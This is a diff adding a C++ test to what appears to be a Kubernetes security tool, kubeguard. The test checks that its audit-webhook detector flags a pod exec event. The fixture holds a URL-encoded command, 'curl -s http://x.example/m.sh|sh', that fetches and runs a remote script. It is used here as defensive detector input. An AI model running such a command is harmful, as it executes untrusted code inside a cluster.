@@ -60,6 +60,47 @@ TEST(ServerBinary, SigtermDrainsTheRequestInFlightAndExitsZero) {
   EXPECT_NE(log.find("stopped"), std::string::npos) << log;
 }
 
+// The API server's audit webhook backend posts EventList batches to /audit;
+// the detector of `kubeguard audit` answers them and prints its alerts.
+TEST(ServerBinary, AuditWebhookBatchesRaiseAlerts) {
+  testing::TestPki pki;
+  ASSERT_TRUE(pki.ok());
+  Child serve({KG_BINARY, "serve", "--tls-cert", pki.path("server.crt"), "--tls-key", pki.path("server.key"),
+               "--listen", "127.0.0.1:0", "--threads", "2"},
+              pki.path("serve.log"));
+  unsigned short port = serve.port(10s);
+  ASSERT_NE(port, 0) << serve.log();
+  const std::string exec_event =
+      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"exec-1",)"
+      R"("stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&)"
+      R"(command=curl%20-s%20http%3A%2F%2Fx.example%2Fm.sh%7Csh&container=web&stdin=true&tty=true",)"
+      R"("verb":"create","user":{"username":"mallory","groups":["system:authenticated"]},)"
+      R"("sourceIPs":["10.0.0.5"],"userAgent":"kubectl/v1.33.13","objectRef":{"resource":"pods",)"
+      R"("namespace":"shop","name":"web","apiVersion":"v1","subresource":"exec"},)"
+      R"("responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-11-22T10:00:00.000000Z",)"
+      R"("stageTimestamp":"2026-11-22T10:00:00.100000Z"})";
+  TlsClient client;
+  ASSERT_TRUE(client.connect(port, pki.path("ca.crt")));
+  ASSERT_TRUE(client.send(TlsClient::request(
+      "POST", "/audit", R"({"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[)" + exec_event + "]}")));
+  auto reply = client.read();
+  ASSERT_TRUE(reply) << serve.log();
+  EXPECT_EQ(reply->status, 200) << reply->body;
+  EXPECT_NE(reply->body.find("\"events\":1"), std::string::npos) << reply->body;
+  EXPECT_EQ(reply->body.find("\"alerts\":0"), std::string::npos) << reply->body;
+
+  ASSERT_TRUE(client.send(TlsClient::request("POST", "/audit", R"({"kind":"Pod"})")));
+  auto wrong = client.read();
+  ASSERT_TRUE(wrong) << serve.log();
+  EXPECT_EQ(wrong->status, 400) << wrong->body;
+
+  ASSERT_EQ(kill(serve.pid(), SIGTERM), 0);
+  EXPECT_EQ(serve.wait(10s), 0) << serve.log();
+  std::string log = serve.log();
+  EXPECT_NE(log.find("\"rule\":\"KG-AUD-007\""), std::string::npos) << log;
+  EXPECT_NE(log.find("audit: 1 events"), std::string::npos) << log;
+}
+
 TEST(ServerBinary, RefusesBadOptions) {
   testing::TestPki pki;
   ASSERT_TRUE(pki.ok());
